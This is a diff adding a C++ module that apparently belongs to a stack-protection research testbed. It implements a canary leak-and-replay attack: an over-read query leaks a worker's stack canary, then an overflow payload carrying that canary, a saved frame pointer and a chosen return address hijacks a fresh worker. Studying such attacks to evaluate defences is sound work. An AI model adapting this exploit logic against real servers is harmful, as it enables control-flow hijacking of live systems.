@@ -1,0 +1,40 @@
+#include "attack/leak_replay.hpp"
+
+#include "util/bytes.hpp"
+
+namespace pssp::attack {
+
+leak_replay_result leak_replay::run(std::uint64_t ret_target, std::uint64_t saved_rbp) {
+    leak_replay_result result;
+
+    // Step 1: the leak query. The handler's over-read path dumps its stack
+    // buffer *plus* the adjacent frame metadata into the response.
+    std::uint8_t magic[8];
+    util::store_le64(magic, leak_magic);
+    const auto leak = oracle_.serve(std::span<const std::uint8_t>{magic, 8});
+    ++result.trials;
+    if (leak.output.size() < config_.leak_offset + config_.canary_bytes) return result;
+
+    result.leaked_canary.assign(
+        leak.output.begin() + static_cast<std::ptrdiff_t>(config_.leak_offset),
+        leak.output.begin() +
+            static_cast<std::ptrdiff_t>(config_.leak_offset + config_.canary_bytes));
+    result.leak_succeeded = true;
+
+    // Step 2: replay against a fresh worker.
+    std::vector<std::uint8_t> payload(config_.prefix_bytes, 'A');
+    payload.insert(payload.end(), result.leaked_canary.begin(),
+                   result.leaked_canary.end());
+    std::uint8_t w[8];
+    util::store_le64(w, saved_rbp);
+    payload.insert(payload.end(), w, w + 8);
+    util::store_le64(w, ret_target);
+    payload.insert(payload.end(), w, w + 8);
+
+    const auto replay = oracle_.serve(payload);
+    ++result.trials;
+    result.hijacked = replay.outcome == proc::worker_outcome::hijacked;
+    return result;
+}
+
+}  // namespace pssp::attack
